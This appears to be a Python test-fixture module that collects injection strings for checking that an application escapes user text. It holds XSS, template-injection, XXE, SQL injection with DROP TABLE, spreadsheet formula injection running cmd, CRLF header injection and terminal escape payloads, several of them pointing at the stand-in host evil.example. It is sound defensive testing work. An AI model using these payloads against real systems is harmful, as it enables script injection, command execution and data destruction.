"""Texts of people who mean harm, by what they would do where somebody forgot to escape them."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

ELSEWHERE = "evil.example"
"""Where they would lead."""
MARKUP: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "out of a double quote": '"><img src=x onerror=alert(1)>',
    "out of a single quote": "'><img src=x onerror=alert(1)>",
    "another attribute": '" autofocus onfocus="alert(1)',
    "another attribute, single": "' autofocus onfocus='alert(1)",
    "no quotes": "x onmouseover=alert(1) style=position:fixed;inset:0",
    "grave accents": "`onmouseover=alert(1)`",
    "end of the data": "</script><script>alert(1)</script>",
    "comment in the data": "<!--<script>",
    "end of what holds text": "</title></textarea></style></noscript></template><svg onload=alert(1)>",
    "svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "frame": f"<iframe srcdoc='<script>alert(1)</script>' src='//{ELSEWHERE}/'></iframe>",
    "link": "<a href='javascript:alert(1)' target=_blank>x</a>",
    "base": f"<base href='//{ELSEWHERE}/'><meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    "form": f"</form><form action='//{ELSEWHERE}/'><input name=key autofocus>",
    "style": f"<style>@import '//{ELSEWHERE}/'</style><link rel=stylesheet href='//{ELSEWHERE}/'>",
    "scheme": "javascript:alert(1)//",
    "data": "data:text/html,<script>alert(1)</script>",
    "templates": "{{7*7}}{%print(7*7)%}${7*7}#{7*7}<%=7*7%>[[7*7]]{{config}}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;&quot;&apos;&amp;",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "doctype": f"<!DOCTYPE x [<!ENTITY e SYSTEM '//{ELSEWHERE}/'>]>&e;<?xml-stylesheet href='//{ELSEWHERE}/'?>",
    "markdown": f"[x](javascript:alert(1)) ![x](//{ELSEWHERE}/) <https://{ELSEWHERE}/>",
    "json": '"},"admin":true,"x":{"y":"\\',
    "sql": "'; DROP TABLE log.events; -- $$ %s %(id)s {0}",
    "tags of unicode": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02ba\u02b9 \u2039b\u203a",
    "no characters": "<b>\ufffe\uffff\U0001fffe</b>",
    "invisible": "<b>a\u200bb\u200dc\ufeffd\u00ade</b>",
    "combining": "<b>Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0324\u031e\u0349</b>",
}
"""What may stand in a name."""
FORMULAS: Mapping[str, str] = {
    "equals": f"=HYPERLINK(\"//{ELSEWHERE}/\",1)+cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide": "\uff1d1+1",
}
"""What a spreadsheet would reckon with; also good for a name."""
STEERING: Mapping[str, str] = {
    "colour": "\x1b[31mred\x1b[0m",
    "title of the window": "\x1b]0;mine\x07",
    "link of a terminal": f"\x1b]8;;https://{ELSEWHERE}/\x1b\\x\x1b]8;;\x1b\\",
    "one byte": "\x9b31mred\x9d0;mine\x9c",
    "writing direction": "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "lines": "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "event stream": 'a\n\ndata: {"type":"x"}\nid: x\nevent: ended\n\n: b\rretry: 1\r',
    "lines of unicode": "a\u2028alert(1)\u2029b\x85c\x0bd\x0ce",
    "of no xml": "<b>\x01\x02\x08\x1f\x7f</b>",
    "formula behind a tab": "a\t=1+1\r=2+2",
}
"""What may stand in a text of several lines, and is refused in a name."""
REFUSED: Mapping[str, str] = {"nul": "a\x00b", "half a pair": "a\ud800b", "the other half": "\udfff"}
"""What is refused in every text."""
NAMES = {**MARKUP, **FORMULAS}
_LONGEST = 170
"""Of a name that takes a few more characters."""


def packed(texts: Mapping[str, str], longest: int = _LONGEST) -> Iterator[str]:
    """All of some texts, in as few as can be names."""
    pack = ""
    for text in texts.values():
        if pack and len(pack) + 1 + len(text) > longest:
            yield pack
            pack = ""
        pack = f"{pack} {text}" if pack else text
    yield pack
